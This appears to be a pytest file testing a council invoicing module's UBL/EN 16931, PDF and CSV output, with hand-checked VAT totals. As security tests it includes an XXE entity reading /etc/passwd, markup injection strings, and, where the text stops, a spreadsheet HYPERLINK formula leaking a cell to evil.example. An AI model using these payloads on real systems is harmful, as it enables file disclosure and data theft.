"""Finished invoices and credit notes (app/invoicing/documents/): UBL, EN 16931, PDF, CSV.

Documents are built by hand; every total asserted here was computed by hand (in comments).
No database is involved.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from pypdf import PdfReader

from app.invoicing.documents import (
    CSV_COLUMNS,
    CUSTOMIZATION_ID,
    NS_CREDIT_NOTE,
    NS_INVOICE,
    PROFILE_ID,
    DocumentLine,
    InvoiceDocument,
    Party,
    PaymentDetails,
    VatSubtotal,
    build_document,
    make_line,
    render_csv,
    render_pdf,
    render_ubl,
    split_address,
    vat_treatment_category,
)
from tests.invoicing.en16931 import check_en16931

NS = {
    "inv": NS_INVOICE,
    "cn": NS_CREDIT_NOTE,
    "cac": "urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2",
    "cbc": "urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2",
}
OUTSIDE_SCOPE_REASON = "Non-business supply between local authorities (s113 LGA 1972)"

SELLER = Party(
    name="Borsetshire County Council",
    code="BORS",
    gss_code="E10000099",
    address_lines=("County Hall", "High Street", "Borchester", "BC1 2AB"),
    vat_number="GB123456789",
    contact_email="finance@borsetshire.gov.uk",
)
BUYER = Party(
    name="Felpersham City Council",
    code="FELP",
    gss_code="E06000099",
    address_lines=("Civic Centre", "Felpersham", "FE2 3CD"),
    vat_number="987 6543 21",
    contact_email="accounts.payable@felpersham.gov.uk",
)
PAYMENT = PaymentDetails(
    payee_name="Borsetshire County Council",
    account_reference=None,
    sort_code="12-34-56",
    account_number="12345678",
)


def s_line(
    ref: str, officer: str, week: str, po: str | None, minutes: int, rate: int
) -> DocumentLine:
    return make_line(
        booking_reference=ref,
        officer_name=officer,
        week=week,
        purchase_order=po,
        minutes=minutes,
        rate_pence_per_hour=rate,
        vat_category="S",
        vat_rate_bps=2000,
    )


def standard_invoice(**changes: object) -> InvoiceDocument:
    """Four lines at 20%, two POs.

    450 min x £45.00 = 33750p; 435 min x £45.00 = 32625p; 20 min x £49.99 = 1666.33 → 1666p;
    10 min x £45.03 = 750.5 → 751p. Net 68792p = £687.92; VAT 13758.4 → £137.58;
    gross £825.50.
    """
    lines = [
        s_line("bk-0001", "Ann Archer", "2026-W45", "PO-1001", 450, 4500),
        s_line("bk-0002", "Ann Archer", "2026-W46", "PO-1001", 435, 4500),
        s_line("bk-0003", "Bob Brown", "2026-W46", "PO-2002", 20, 4999),
        s_line("bk-0004", "Cy Cooper", "2026-W47", "PO-2002", 10, 4503),
    ]
    arguments: dict[str, object] = {
        "kind": "invoice",
        "number": "BORS-2026-000001",
        "issue_date": date(2026, 12, 1),
        "due_date": date(2026, 12, 31),
        "period": "2026-11",
        "seller": SELLER,
        "buyer": BUYER,
        "lines": lines,
        "payment": PAYMENT,
        "payment_terms_days": 30,
    }
    arguments.update(changes)
    return build_document(**arguments)  # type: ignore[arg-type]


def outside_scope_invoice() -> InvoiceDocument:
    """Outside the scope of VAT: 7 min x £45 = 525p; 60 min x £30 = 3000p; net = gross £35.25."""
    category, rate, reason = vat_treatment_category("outside_scope", 2000, OUTSIDE_SCOPE_REASON)
    lines = [
        make_line(
            booking_reference=f"bk-01{i}",
            officer_name=name,
            week="2026-W49",
            purchase_order="PO-77",
            minutes=minutes,
            rate_pence_per_hour=rate_pence,
            vat_category=category,
            vat_rate_bps=rate,
            exemption_reason=reason,
        )
        for i, (name, minutes, rate_pence) in enumerate(
            [("Dee Dale", 7, 4500), ("Ed Eng", 60, 3000)]
        )
    ]
    return build_document(
        kind="invoice",
        number="BORS-2026-000002",
        issue_date=date(2026, 12, 8),
        due_date=date(2027, 1, 7),
        period="2026-11",
        seller=SELLER,
        buyer=BUYER,
        lines=lines,
        payment=PaymentDetails(payee_name="Borsetshire County Council"),
        payment_terms_days=30,
    )


def credit_note() -> InvoiceDocument:
    """Credits 60 of invoice 1's minutes at £45: 4500p, VAT 900p, gross £54.00."""
    return build_document(
        kind="credit_note",
        number="BORS-2026-000003",
        issue_date=date(2026, 12, 10),
        due_date=None,
        period="2026-11",
        seller=SELLER,
        buyer=BUYER,
        lines=[s_line("bk-0001", "Ann Archer", "2026-W45", "PO-1001", 60, 4500)],
        referenced_invoice_number="BORS-2026-000001",
        referenced_invoice_issue_date=date(2026, 12, 1),
        notes=["Ann Archer worked one hour less in week 2026-W45 than invoiced."],
    )


def xpath_text(tree: etree._Element, path: str) -> list[str]:
    return [str(node.text) for node in tree.xpath(path, namespaces=NS)]  # type: ignore[union-attr]


def one(tree: etree._Element, path: str) -> str:
    found = xpath_text(tree, path)
    assert len(found) == 1, (path, found)
    return found[0]


def tamper(xml: bytes, path: str, value: str) -> bytes:
    tree = etree.fromstring(xml)
    nodes = tree.xpath(path, namespaces=NS)
    assert isinstance(nodes, list) and nodes, path
    node = nodes[0]
    assert isinstance(node, etree._Element)
    node.text = value
    return etree.tostring(tree, xml_declaration=True, encoding="UTF-8")


def remove(xml: bytes, path: str) -> bytes:
    tree = etree.fromstring(xml)
    nodes = tree.xpath(path, namespaces=NS)
    assert isinstance(nodes, list) and nodes, path
    for node in nodes:
        assert isinstance(node, etree._Element)
        parent = node.getparent()
        assert parent is not None
        parent.remove(node)
    return etree.tostring(tree, xml_declaration=True, encoding="UTF-8")


def rules(problems: list[str]) -> set[str]:
    return {problem.split(":", 1)[0] for problem in problems}


# ------------------------------------------------------------------------------------ model


def test_standard_invoice_totals_by_hand() -> None:
    doc = standard_invoice()
    assert [line.amount_pence for line in doc.lines] == [33750, 32625, 1666, 751]
    assert (doc.net_pence, doc.vat_pence, doc.gross_pence) == (68792, 13758, 82550)
    assert doc.vat_breakdown == (
        VatSubtotal(category="S", rate_bps=2000, taxable_pence=68792, tax_pence=13758),
    )
    assert doc.purchase_orders == ("PO-1001", "PO-2002")
    assert doc.effective_buyer_reference == "PO-1001, PO-2002"
    assert (doc.period_start, doc.period_end) == (date(2026, 11, 1), date(2026, 11, 30))


def test_a_document_refuses_sums_that_do_not_add_up() -> None:
    doc = standard_invoice()
    with pytest.raises(ValueError, match="net/VAT/gross"):
        replace(doc, gross_pence=doc.gross_pence + 1)
    with pytest.raises(ValueError, match="net/VAT/gross"):  # 1p off: BR-CO-17 allows it,
        replace(doc, vat_breakdown=(replace(doc.vat_breakdown[0], tax_pence=13759),))
    with pytest.raises(ValueError, match="BR-CO-17"):  # but not 2p
        replace(doc, vat_breakdown=(replace(doc.vat_breakdown[0], tax_pence=13760),))
    with pytest.raises(ValueError, match="VAT breakdown"):
        replace(doc, vat_breakdown=(replace(doc.vat_breakdown[0], taxable_pence=1),))
    replace(doc.lines[2], amount_pence=1667)  # 1666.33: a remainder may take a penny more
    with pytest.raises(ValueError, match="amount_pence"):
        replace(doc.lines[2], amount_pence=1668)
    with pytest.raises(ValueError, match="at least one line"):
        replace(doc, lines=())


def test_a_line_refuses_inconsistent_vat() -> None:
    line = standard_invoice().lines[0]
    with pytest.raises(ValueError, match="above 0"):
        replace(line, vat_rate_bps=0)
    with pytest.raises(ValueError, match="rate of 0"):
        replace(line, vat_category="Z")
    with pytest.raises(ValueError, match="exemption reason"):
        replace(line, vat_category="O", vat_rate_bps=0)
    with pytest.raises(ValueError, match="no exemption reason"):
        replace(line, exemption_reason="because")
    with pytest.raises(ValueError, match="no week 60"):
        replace(line, week="2026-W60")
    with pytest.raises(ValueError, match="purchase order"):
        replace(line, purchase_order="  ")


def test_credit_notes_and_invoices_reference_correctly() -> None:
    with pytest.raises(ValueError, match="referenced invoice number"):
        replace(credit_note(), referenced_invoice_number=None)
    with pytest.raises(ValueError, match="only a credit note"):
        standard_invoice(referenced_invoice_number="X-1")
    with pytest.raises(ValueError, match="due date"):
        standard_invoice(due_date=date(2026, 11, 30))
    with pytest.raises(ValueError, match="period"):
        standard_invoice(period="2026-13")
    with pytest.raises(ValueError, match="BR-CO-25"):
        standard_invoice(due_date=None, payment_terms_days=None)


def test_vat_treatment_from_council_settings() -> None:
    assert vat_treatment_category("standard", 2000, None) == ("S", 2000, None)
    assert vat_treatment_category("zero", 2000, "Zero-rated supply") == (
        "Z",
        0,
        "Zero-rated supply",
    )
    assert vat_treatment_category("exempt", 2000, None) == ("E", 0, "Exempt from VAT")
    assert vat_treatment_category("outside_scope", 2000, " ") == (
        "O",
        0,
        "Outside the scope of VAT",
    )
    with pytest.raises(ValueError):
        vat_treatment_category("reduced", 500, None)


def test_parties() -> None:
    assert BUYER.vat_identifier == "GB987654321"
    assert BUYER.endpoint == ("9932", "GB987654321")
    assert Party(name="X", code="X").endpoint is None
    peppol = Party(name="X", code="X", endpoint_scheme="0088", endpoint_id="5000000000003")
    assert peppol.endpoint == ("0088", "5000000000003")
    with pytest.raises(ValueError):
        Party(name="X", code="X", vat_number="not a vat number!")
    assert split_address(["Civic Centre", "Felpersham", "fe2 3cd"]) == {
        "StreetName": "Civic Centre",
        "CityName": "Felpersham",
        "PostalZone": "FE2 3CD",
    }
    assert split_address(["1 Road", "Floor 2", "Wing B", "Annex", "Town", "AB1 2CD"]) == {
        "StreetName": "1 Road",
        "AdditionalStreetName": "Floor 2",
        "AddressLine": "Wing B, Annex",
        "CityName": "Town",
        "PostalZone": "AB1 2CD",
    }


# ------------------------------------------------------------------------------------ UBL


def test_standard_invoice_ubl() -> None:
    xml = render_ubl(standard_invoice())
    assert xml.startswith(b"<?xml version='1.0' encoding='UTF-8'?>")
    assert check_en16931(xml) == []
    tree = etree.fromstring(xml)
    assert tree.tag == f"{{{NS_INVOICE}}}Invoice"
    assert one(tree, "/inv:Invoice/cbc:CustomizationID") == CUSTOMIZATION_ID
    assert one(tree, "/inv:Invoice/cbc:ProfileID") == PROFILE_ID
    assert one(tree, "/inv:Invoice/cbc:ID") == "BORS-2026-000001"
    assert one(tree, "/inv:Invoice/cbc:IssueDate") == "2026-12-01"
    assert one(tree, "/inv:Invoice/cbc:DueDate") == "2026-12-31"
    assert one(tree, "/inv:Invoice/cbc:InvoiceTypeCode") == "380"
    assert one(tree, "/inv:Invoice/cbc:DocumentCurrencyCode") == "GBP"
    assert one(tree, "/inv:Invoice/cbc:BuyerReference") == "PO-1001, PO-2002"
    assert xpath_text(tree, "/inv:Invoice/cac:OrderReference/cbc:ID") == []  # two POs
    assert one(tree, "//cac:InvoicePeriod/cbc:StartDate") == "2026-11-01"
    assert one(tree, "//cac:InvoicePeriod/cbc:EndDate") == "2026-11-30"

    supplier = "/inv:Invoice/cac:AccountingSupplierParty/cac:Party"
    customer = "/inv:Invoice/cac:AccountingCustomerParty/cac:Party"
    assert one(tree, f"{supplier}/cac:PartyName/cbc:Name") == "Borsetshire County Council"
    assert one(tree, f"{supplier}/cac:PartyTaxScheme/cbc:CompanyID") == "GB123456789"
    assert one(tree, f"{supplier}/cbc:EndpointID[@schemeID='9932']") == "GB123456789"
    assert one(tree, f"{supplier}/cac:PostalAddress/cbc:PostalZone") == "BC1 2AB"
    assert one(tree, f"{supplier}/cac:PostalAddress/cac:Country/cbc:IdentificationCode") == "GB"
    assert one(tree, f"{customer}/cac:PartyLegalEntity/cbc:RegistrationName") == (
        "Felpersham City Council"
    )
    assert one(tree, f"{customer}/cac:PartyTaxScheme/cbc:CompanyID") == "GB987654321"
    assert one(tree, f"{customer}/cac:PartyIdentification/cbc:ID") == "E06000099"

    assert one(tree, "//cac:PaymentMeans/cbc:PaymentMeansCode") == "30"
    assert one(tree, "//cac:PaymentMeans/cbc:PaymentID") == "BORS-2026-000001"
    assert one(tree, "//cac:PayeeFinancialAccount/cbc:ID") == "12345678"
    assert one(tree, "//cac:PayeeFinancialAccount/cac:FinancialInstitutionBranch/cbc:ID") == (
        "12-34-56"
    )

    assert one(tree, "/inv:Invoice/cac:TaxTotal/cbc:TaxAmount") == "137.58"
    assert one(tree, "//cac:TaxSubtotal/cbc:TaxableAmount") == "687.92"
    assert one(tree, "//cac:TaxSubtotal/cbc:TaxAmount") == "137.58"
    assert one(tree, "//cac:TaxSubtotal/cac:TaxCategory/cbc:ID") == "S"
    assert one(tree, "//cac:TaxSubtotal/cac:TaxCategory/cbc:Percent") == "20"
    assert xpath_text(tree, "//cbc:TaxExemptionReason") == []
    monetary = "/inv:Invoice/cac:LegalMonetaryTotal"
    assert one(tree, f"{monetary}/cbc:LineExtensionAmount") == "687.92"
    assert one(tree, f"{monetary}/cbc:TaxExclusiveAmount") == "687.92"
    assert one(tree, f"{monetary}/cbc:TaxInclusiveAmount") == "825.50"
    assert one(tree, f"{monetary}/cbc:PayableAmount") == "825.50"
    assert set(tree.xpath("//@currencyID")) == {"GBP"}  # type: ignore[arg-type]

    lines = tree.xpath("/inv:Invoice/cac:InvoiceLine", namespaces=NS)
    assert isinstance(lines, list) and len(lines) == 4
    assert xpath_text(tree, "//cac:InvoiceLine/cbc:ID") == ["1", "2", "3", "4"]
    assert xpath_text(tree, "//cac:InvoiceLine/cbc:InvoicedQuantity") == ["450", "435", "20", "10"]
    assert set(tree.xpath("//cbc:InvoicedQuantity/@unitCode", namespaces=NS)) == {"MIN"}  # type: ignore[arg-type]
    assert xpath_text(tree, "//cac:InvoiceLine/cbc:LineExtensionAmount") == [
        "337.50",
        "326.25",
        "16.66",
        "7.51",
    ]
    assert xpath_text(tree, "//cac:InvoiceLine/cac:Price/cbc:PriceAmount") == [
        "45.00",
        "45.00",
        "49.99",
        "45.03",
    ]
    assert set(xpath_text(tree, "//cac:Price/cbc:BaseQuantity")) == {"60"}
    assert xpath_text(tree, "//cac:InvoiceLine/cac:DocumentReference/cbc:ID") == [
        "bk-0001",
        "bk-0002",
        "bk-0003",
        "bk-0004",
    ]
    assert xpath_text(
        tree, "//cac:AdditionalItemProperty[cbc:Name='Purchase order']/cbc:Value"
    ) == ["PO-1001", "PO-1001", "PO-2002", "PO-2002"]
    # PEPPOL-EN16931-R120 by hand: quantity x price / base quantity is within a penny.
    for quantity, price, amount in zip(
        xpath_text(tree, "//cbc:InvoicedQuantity"),
        xpath_text(tree, "//cac:Price/cbc:PriceAmount"),
        xpath_text(tree, "//cac:InvoiceLine/cbc:LineExtensionAmount"),
        strict=True,
    ):
        assert abs(Decimal(quantity) * Decimal(price) / 60 - Decimal(amount)) <= Decimal("0.005")


def test_one_po_goes_in_the_order_reference() -> None:
    doc = outside_scope_invoice()
    tree = etree.fromstring(render_ubl(doc))
    assert one(tree, "/inv:Invoice/cac:OrderReference/cbc:ID") == "PO-77"
    assert one(tree, "/inv:Invoice/cbc:BuyerReference") == "PO-77"
    explicit = replace(doc, buyer_reference="FELP-ROUTE-9")
    assert one(etree.fromstring(render_ubl(explicit)), "//cbc:BuyerReference") == "FELP-ROUTE-9"


def test_outside_the_scope_invoice_ubl() -> None:
    doc = outside_scope_invoice()
    assert (doc.net_pence, doc.vat_pence, doc.gross_pence) == (3525, 0, 3525)
    xml = render_ubl(doc)
    assert check_en16931(xml) == []
    tree = etree.fromstring(xml)
    category = "//cac:TaxSubtotal/cac:TaxCategory"
    assert one(tree, f"{category}/cbc:ID") == "O"
    assert xpath_text(tree, f"{category}/cbc:Percent") == []
    assert one(tree, f"{category}/cbc:TaxExemptionReason") == OUTSIDE_SCOPE_REASON
    assert one(tree, f"{category}/cbc:TaxExemptionReasonCode") == "VATEX-EU-O"
    assert xpath_text(tree, "//cac:ClassifiedTaxCategory/cbc:ID") == ["O", "O"]
    assert xpath_text(tree, "//cac:ClassifiedTaxCategory/cbc:Percent") == []
    # PEPPOL UBL-CR-600/601: no exemption reason (code or text) in a line's tax category.
    assert xpath_text(tree, "//cac:ClassifiedTaxCategory/cbc:TaxExemptionReasonCode") == []
    assert xpath_text(tree, "//cac:ClassifiedTaxCategory/cbc:TaxExemptionReason") == []
    assert xpath_text(tree, "//cac:PartyTaxScheme/cbc:CompanyID") == []  # BR-O-02
    assert one(tree, "/inv:Invoice/cac:TaxTotal/cbc:TaxAmount") == "0.00"
    assert one(tree, "//cac:TaxSubtotal/cbc:TaxableAmount") == "35.25"
    assert one(tree, "//cbc:TaxInclusiveAmount") == "35.25"
    assert one(tree, "//cbc:PayableAmount") == "35.25"
    assert one(tree, "//cac:PaymentMeans/cbc:PaymentMeansCode") == "1"  # no account given
    assert all(
        OUTSIDE_SCOPE_REASON in note for note in xpath_text(tree, "//cac:InvoiceLine/cbc:Note")
    )


def test_zero_rated_reason_stays_out_of_the_tax_category() -> None:
    category, rate, reason = vat_treatment_category("zero", 2000, "Zero-rated by agreement")
    line = make_line(
        booking_reference="bk-z",
        officer_name="Zoe Zed",
        week="2026-W48",
        purchase_order=None,
        minutes=90,
        rate_pence_per_hour=5000,
        vat_category=category,
        vat_rate_bps=rate,
        exemption_reason=reason,
    )
    doc = standard_invoice(lines=[line])
    xml = render_ubl(doc)
    assert check_en16931(xml) == []
    tree = etree.fromstring(xml)
    assert one(tree, "//cac:TaxSubtotal/cac:TaxCategory/cbc:Percent") == "0"
    assert xpath_text(tree, "//cbc:TaxExemptionReason") == []  # BR-Z-10
    assert "Zero-rated by agreement" in one(tree, "//cac:InvoiceLine/cbc:Note")
    assert one(tree, "//cbc:BuyerReference") == "Talent Pool recharge 2026-11"


def test_credit_note_ubl() -> None:
    doc = credit_note()
    assert (doc.net_pence, doc.vat_pence, doc.gross_pence) == (4500, 900, 5400)
    xml = render_ubl(doc)
    assert check_en16931(xml) == []
    tree = etree.fromstring(xml)
    assert tree.tag == f"{{{NS_CREDIT_NOTE}}}CreditNote"
    assert one(tree, "/cn:CreditNote/cbc:CreditNoteTypeCode") == "381"
    assert xpath_text(tree, "/cn:CreditNote/cbc:InvoiceTypeCode") == []
    assert xpath_text(tree, "/cn:CreditNote/cbc:DueDate") == []
    assert one(tree, "//cac:BillingReference/cac:InvoiceDocumentReference/cbc:ID") == (
        "BORS-2026-000001"
    )
    assert one(tree, "//cac:BillingReference/cac:InvoiceDocumentReference/cbc:IssueDate") == (
        "2026-12-01"
    )
    assert one(tree, "/cn:CreditNote/cac:OrderReference/cbc:ID") == "PO-1001"
    assert one(tree, "/cn:CreditNote/cbc:Note").startswith("Ann Archer worked one hour less")
    assert xpath_text(tree, "//cac:InvoiceLine") == []
    assert one(tree, "//cac:CreditNoteLine/cbc:CreditedQuantity") == "60"
    assert one(tree, "//cac:CreditNoteLine/cbc:LineExtensionAmount") == "45.00"
    assert one(tree, "/cn:CreditNote/cac:TaxTotal/cbc:TaxAmount") == "9.00"
    assert one(tree, "//cbc:PayableAmount") == "54.00"
    assert one(tree, "//cac:PaymentTerms/cbc:Note").startswith(
        "Credit for invoice BORS-2026-000001"
    )


def test_hostile_text_is_escaped_and_kept_well_formed() -> None:
    line = s_line("bk-x", 'Eve <script>&amp;"\x01', "2026-W45", "<PO>", 60, 4500)
    xml = render_ubl(standard_invoice(lines=[line]))
    assert check_en16931(xml) == []
    tree = etree.fromstring(xml)
    assert one(tree, "//cac:AdditionalItemProperty[cbc:Name='Officer']/cbc:Value") == (
        'Eve <script>&amp;"\ufffd'
    )
    assert one(tree, "//cac:OrderReference/cbc:ID") == "<PO>"


# ------------------------------------------------------------------------ EN 16931 checking


def test_tampered_total_is_caught() -> None:
    xml = render_ubl(standard_invoice())
    broken = tamper(xml, "/inv:Invoice/cac:LegalMonetaryTotal/cbc:LineExtensionAmount", "687.93")
    assert {"BR-CO-10", "BR-CO-13"} <= rules(check_en16931(broken))

    broken = tamper(xml, "/inv:Invoice/cac:LegalMonetaryTotal/cbc:TaxInclusiveAmount", "825.51")
    found = rules(check_en16931(broken))
    assert {"BR-CO-15", "BR-CO-16"} <= found
    assert "BR-CO-10" not in found


def test_tampered_line_is_caught() -> None:
    xml = render_ubl(standard_invoice())
    broken = tamper(xml, "(//cac:InvoiceLine)[3]/cbc:LineExtensionAmount", "16.70")
    found = rules(check_en16931(broken))
    assert {"BR-CO-10", "BR-S-08", "PEPPOL-EN16931-R120"} <= found
    messages = check_en16931(broken)
    assert any("line 3" in message for message in messages)


def test_tampered_vat_is_caught() -> None:
    xml = render_ubl(standard_invoice())
    broken = tamper(xml, "//cac:TaxSubtotal/cbc:TaxAmount", "137.60")  # 137.59: 1p, allowed
    assert {"BR-CO-14", "BR-CO-17"} <= rules(check_en16931(broken))
    broken = tamper(xml, "//cac:TaxSubtotal/cac:TaxCategory/cbc:Percent", "17.5")
    assert "BR-CO-17" in rules(check_en16931(broken))


def test_amounts_with_three_decimals_and_wrong_currency() -> None:
    xml = render_ubl(standard_invoice())
    broken = tamper(xml, "(//cac:InvoiceLine)[1]/cbc:LineExtensionAmount", "337.500")
    assert "BR-DEC-23" in rules(check_en16931(broken))
    tree = etree.fromstring(xml)
    node = tree.xpath("//cbc:PayableAmount", namespaces=NS)[0]  # type: ignore[index]
    node.set("currencyID", "EUR")  # type: ignore[union-attr]
    assert "PEPPOL-EN16931-R051" in rules(check_en16931(etree.tostring(tree)))


def test_missing_mandatory_elements() -> None:
    xml = render_ubl(standard_invoice())
    assert "BR-02" in rules(check_en16931(remove(xml, "/inv:Invoice/cbc:ID")))
    assert "BR-01" in rules(check_en16931(remove(xml, "/inv:Invoice/cbc:CustomizationID")))
    assert "BR-05" in rules(check_en16931(remove(xml, "/inv:Invoice/cbc:DocumentCurrencyCode")))
    assert "BR-16" in rules(check_en16931(remove(xml, "//cac:InvoiceLine")))
    assert "BR-06" in rules(
        check_en16931(remove(xml, "//cac:AccountingSupplierParty//cac:PartyLegalEntity"))
    )
    assert "BR-11" in rules(
        check_en16931(remove(xml, "//cac:AccountingCustomerParty//cac:Country"))
    )
    assert "PEPPOL-EN16931-R020" in rules(
        check_en16931(remove(xml, "//cac:AccountingSupplierParty//cbc:EndpointID"))
    )
    assert "BR-25" in rules(check_en16931(remove(xml, "(//cac:Item/cbc:Name)[1]")))
    assert "BR-S-02" in rules(
        check_en16931(remove(xml, "//cac:AccountingSupplierParty//cac:PartyTaxScheme"))
    )
    assert "PEPPOL-EN16931-R003" in rules(
        check_en16931(remove(xml, "/inv:Invoice/cbc:BuyerReference"))
    )
    assert "BR-CO-25" in rules(
        check_en16931(remove(remove(xml, "/inv:Invoice/cbc:DueDate"), "//cac:PaymentTerms"))
    )
    assert "BR-61" in rules(check_en16931(remove(xml, "//cac:PayeeFinancialAccount")))


def test_vat_category_rules() -> None:
    xml = render_ubl(outside_scope_invoice())
    assert "BR-O-10" in rules(
        check_en16931(
            remove(
                remove(xml, "//cac:TaxCategory/cbc:TaxExemptionReason"),
                "//cac:TaxCategory/cbc:TaxExemptionReasonCode",
            )
        )
    )
    with_vat_id = render_ubl(
        replace(standard_invoice(), payment=None)
    )  # a VAT id to graft onto the O document
    tree = etree.fromstring(xml)
    scheme = etree.fromstring(with_vat_id).xpath(
        "//cac:AccountingSupplierParty//cac:PartyTaxScheme", namespaces=NS
    )[0]  # type: ignore[index]
    legal = tree.xpath("//cac:AccountingSupplierParty//cac:PartyLegalEntity", namespaces=NS)[0]  # type: ignore[index]
    legal.addprevious(scheme)  # type: ignore[union-attr, arg-type]
    assert "BR-O-02" in rules(check_en16931(etree.tostring(tree)))

    standard = render_ubl(standard_invoice())
    tree = etree.fromstring(standard)
    percent = tree.xpath("//cac:TaxSubtotal/cac:TaxCategory/cbc:Percent", namespaces=NS)[0]  # type: ignore[index]
    reason = etree.Element(f"{{{NS['cbc']}}}TaxExemptionReason")
    reason.text = "not allowed for S"
    percent.addnext(reason)  # type: ignore[union-attr]
    assert "BR-S-10" in rules(check_en16931(etree.tostring(tree)))
    assert "BR-S-01" in rules(
        check_en16931(tamper(standard, "//cac:TaxSubtotal/cac:TaxCategory/cbc:ID", "Z"))
    )


def test_wellformedness_and_namespaces() -> None:
    assert rules(check_en16931(b"<Invoice><oops></Invoice>")) == {"XML-WELLFORMED"}
    assert rules(check_en16931(b"")) == {"XML-WELLFORMED"}
    xml = render_ubl(standard_invoice())
    wrong_root = xml.replace(NS_INVOICE.encode(), b"urn:example:not-ubl")
    assert rules(check_en16931(wrong_root)) == {"UBL-ROOT"}
    stray = xml.replace(
        b"<cbc:InvoiceTypeCode>",
        b'<x:Extra xmlns:x="urn:example:x">1</x:Extra><cbc:InvoiceTypeCode>',
    )
    assert "UBL-NAMESPACE" in rules(check_en16931(stray))
    empty = xml.replace(b"<cbc:ID>bk-0001</cbc:ID>", b"<cbc:ID/>")
    assert "PEPPOL-EN16931-R008" in rules(check_en16931(empty))
    bad_date = tamper(xml, "/inv:Invoice/cbc:IssueDate", "01/12/2026")
    assert "PEPPOL-EN16931-F001" in rules(check_en16931(bad_date))


def test_doctype_and_entities_are_refused() -> None:
    xml = render_ubl(standard_invoice()).split(b"\n", 1)[1]
    hostile = (
        b'<?xml version="1.0"?>\n<!DOCTYPE Invoice [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
        + xml.replace(b"<cbc:ID>BORS-2026-000001</cbc:ID>", b"<cbc:ID>&x;</cbc:ID>")
    )
    assert rules(check_en16931(hostile)) <= {"XML-DOCTYPE", "XML-WELLFORMED"}
    assert check_en16931(hostile)


weeks = st.sampled_from(["2026-W45", "2026-W46", "2026-W47", "2026-W48", "2026-W49"])
vat_rates = st.sampled_from([500, 1750, 2000])


@st.composite
def standard_lines(draw: st.DrawFn) -> list[DocumentLine]:
    count = draw(st.integers(min_value=1, max_value=12))
    return [
        make_line(
            booking_reference=f"bk-{index}",
            officer_name=draw(st.sampled_from(["Ann", "Bob", "=1+1", "Siân Ó Néill"])),
            week=draw(weeks),
            purchase_order=draw(st.sampled_from([None, "PO-1", "PO-2"])),
            minutes=draw(st.integers(min_value=0, max_value=6_000)),
            rate_pence_per_hour=draw(st.integers(min_value=0, max_value=25_000)),
            vat_category="S",
            vat_rate_bps=draw(vat_rates),
        )
        for index in range(count)
    ]


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(standard_lines())
def test_any_document_passes_its_own_checks(lines: list[DocumentLine]) -> None:
    doc = standard_invoice(lines=lines)
    xml = render_ubl(doc)
    assert check_en16931(xml) == []
    tree = etree.fromstring(xml)
    assert Decimal(one(tree, "//cac:LegalMonetaryTotal/cbc:PayableAmount")) * 100 == doc.gross_pence
    assert doc.net_pence == sum(line.amount_pence for line in lines)
    assert doc.gross_pence == doc.net_pence + doc.vat_pence


# ------------------------------------------------------------------------------------ PDF


def pdf_text(pdf: bytes) -> tuple[int, str]:
    """Page count and the text of all pages, whitespace collapsed (cells wrap lines)."""
    reader = PdfReader(io.BytesIO(pdf))
    text = " ".join(page.extract_text() or "" for page in reader.pages)
    return len(reader.pages), " ".join(text.split())


def test_short_invoice_pdf() -> None:
    pdf = render_pdf(standard_invoice())
    assert pdf.startswith(b"%PDF")
    pages, text = pdf_text(pdf)
    assert pages == 1
    for expected in (
        "Invoice",
        "BORS-2026-000001",
        "Borsetshire County Council",
        "Felpersham City Council",
        "PO-1001",
        "PO-2002",
        "£825.50",
        "£687.92",
        "£137.58",
        "VAT at 20%",
        "GB123456789",
        "1 December 2026",
        "31 December 2026",
        "12-34-56",
        "12345678",
        "30 days",
        "7:30",
        "Page 1 of 1",
    ):
        assert expected in text, expected
    metadata = PdfReader(io.BytesIO(pdf)).metadata
    assert metadata is not None and metadata.title == "VAT invoice BORS-2026-000001"


def test_long_invoice_pdf_has_numbered_pages() -> None:
    lines = [
        s_line(
            f"bk-{i:04d}", f"Officer {i:03d}", "2026-W46", f"PO-{i % 3}", 15 * (1 + i % 20), 4500
        )
        for i in range(200)
    ]
    doc = standard_invoice(lines=lines)
    pages, text = pdf_text(render_pdf(doc))
    assert pages >= 4
    assert f"Page 1 of {pages}" in text and f"Page {pages} of {pages}" in text
    assert "Officer 000" in text and "Officer 199" in text
    assert text.count("Description") >= pages  # the table header repeats on every page
    assert re.search(r"£[\d,]+\.\d\d", text)
    assert f"£{doc.gross_pence // 100:,}.{doc.gross_pence % 100:02d}" in text


def test_outside_scope_and_credit_note_pdfs() -> None:
    _, text = pdf_text(render_pdf(outside_scope_invoice()))
    assert "Outside the scope of VAT" in text
    assert "Non-business supply between local authorities" in text
    assert "£35.25" in text and "PO-77" in text

    pages, text = pdf_text(render_pdf(credit_note()))
    assert pages == 1
    assert "Credit note" in text and "BORS-2026-000003" in text
    assert "credits invoice BORS-2026-000001" in text
    assert "£54.00" in text and "Total credited" in text
    assert "How to pay" not in text


def test_pdf_shows_markup_as_text() -> None:
    line = s_line("bk-x", "<b>Mallory</b> & <font size=40>co</font>", "2026-W45", None, 60, 4500)
    _, text = pdf_text(render_pdf(standard_invoice(lines=[line])))
    assert "<b>Mallory</b> & <font size=40>co</font>" in text


# ------------------------------------------------------------------------------------ CSV


def parse_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_rows() -> None:
    text = render_csv(standard_invoice())
    assert text.startswith(",".join(CSV_COLUMNS) + "\r\n")
    rows = parse_csv(text)
    assert len(rows) == 4
    assert [row["net_amount"] for row in rows] == ["337.50", "326.25", "16.66", "7.51"]
    assert [row["minutes"] for row in rows] == ["450", "435", "20", "10"]
    assert [row["rate_per_hour"] for row in rows] == ["45.00", "45.00", "49.99", "45.03"]
    first = rows[0]
    assert first["document_type"] == "invoice"
    assert first["document_number"] == "BORS-2026-000001"
    assert (first["issue_date"], first["due_date"], first["period"]) == (
        "2026-12-01",
        "2026-12-31",
        "2026-11",
    )
    assert first["purchase_order"] == "PO-1001"
    assert first["vat_category"] == "S" and first["vat_rate_percent"] == "20"
    assert first["buyer_name"] == "Felpersham City Council"
    assert sum(Decimal(row["net_amount"]) for row in rows) == Decimal("687.92")


def test_csv_neutralises_formulas_but_not_credit_amounts() -> None:
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
